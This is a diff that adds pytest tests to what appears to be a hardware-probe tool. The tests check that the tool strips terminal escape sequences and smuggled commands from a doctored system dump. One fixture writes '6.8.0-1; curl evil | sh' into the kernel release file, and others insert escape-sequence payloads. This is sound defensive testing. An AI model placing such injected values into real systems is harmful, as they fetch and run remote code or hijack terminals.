@@ -364,3 +364,19 @@ def test_a_record_repeats_the_readings(a_copy, tmp_path, machine, name):
         zone = "sys/class/powercap/intel-rapl:1:0"
         assert os.readlink(dump / zone) == os.readlink(root / zone)
         assert (dump / "sys/class/powercap/intel-rapl-mmio:0/name").read_text() == "package-0\n"
+
+
+def test_a_strangers_dump_cannot_write_to_the_terminal(a_copy):
+    root = a_copy("c5-metal-ubuntu-6.8-aws")
+    cpuinfo = root / "proc/cpuinfo"
+    cpuinfo.write_text(cpuinfo.read_text().replace("Platinum", "\033]0;owned\a"))
+    (root / "proc/sys/kernel/osrelease").write_text("6.8.0-1; curl evil | sh\n")
+    (root / "sys/class/dmi/id/product_name").write_bytes(b"c5.metal\x1b[2J\x9b2J\n")
+    done = probe("--root", root)
+    assert "\033" not in done.stdout and "\a" not in done.stdout
+    assert not any("evil" in line for line in done.stdout.splitlines() if "$ " in line)
+
+
+def test_an_ignored_module_is_not_loaded(broken_host):
+    done, commands = broken_host("--fix=packages", "--ignore", "module.intel_rapl_msr")
+    assert commands == [] and "nothing here" in done.stderr
